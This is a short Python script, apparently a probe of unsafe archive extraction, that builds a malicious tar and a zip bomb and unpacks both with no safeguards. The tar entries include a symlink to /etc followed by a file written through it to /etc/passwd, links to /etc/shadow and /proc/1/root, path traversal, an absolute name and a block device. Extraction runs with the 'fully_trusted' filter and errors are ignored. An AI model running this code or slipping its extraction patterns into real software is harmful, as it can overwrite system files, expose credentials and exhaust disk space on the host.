"""Unpacks a tar with links and absolute names, and a bomb, without any care."""

import io
import os
import tarfile
import zipfile
import zlib

os.makedirs("unpacked", exist_ok=True)
archive = io.BytesIO()
with tarfile.open(fileobj=archive, mode="w") as tar:
    for name, kind, target in [
        ("out", tarfile.SYMTYPE, "/etc"),
        ("out/passwd", tarfile.REGTYPE, ""),
        ("shadow", tarfile.SYMTYPE, "/etc/shadow"),
        ("hard", tarfile.LNKTYPE, "/etc/shadow"),
        ("init", tarfile.SYMTYPE, "/proc/1/root"),
        ("../../etc/climbed", tarfile.REGTYPE, ""),
        ("/etc/absolute", tarfile.REGTYPE, ""),
        ("device", tarfile.BLKTYPE, ""),
    ]:
        member = tarfile.TarInfo(name)
        member.type, member.linkname = kind, target
        tar.addfile(member)
archive.seek(0)
with tarfile.open(fileobj=archive) as tar:
    for member in tar:
        try:
            tar.extract(member, "unpacked", **({"filter": "fully_trusted"} if hasattr(tarfile, "data_filter") else {}))
        except (OSError, KeyError, tarfile.TarError):
            pass
bomb = io.BytesIO()
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zipped:
    with zipped.open("bomb", "w") as member:
        for _ in range(192):
            member.write(bytes(1 << 20))
try:
    zipfile.ZipFile(bomb).extractall("unpacked")
    print("the bomb was unpacked")
except OSError as error:
    print(error)
